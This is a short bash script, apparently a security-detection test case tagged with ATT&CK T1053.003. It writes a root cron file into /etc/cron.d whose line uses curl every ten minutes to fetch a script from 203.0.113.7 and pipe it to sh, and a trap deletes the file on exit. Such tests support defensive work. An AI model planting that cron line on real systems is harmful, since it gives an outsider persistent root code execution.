#!/usr/bin/env bash
# tactic: persistence
# technique: T1053.003 Scheduled Task/Job: Cron
# behaviour: an admin drops a system cron file that fetches and runs a script every ten minutes
# as: root
# expect: persistence
set -u
f=/etc/cron.d/sntl-eval-$SNTL_ID
trap 'rm -f "$f"' EXIT
printf '*/10 * * * * root curl -s http://203.0.113.7/u.sh | sh\n' > "$f"
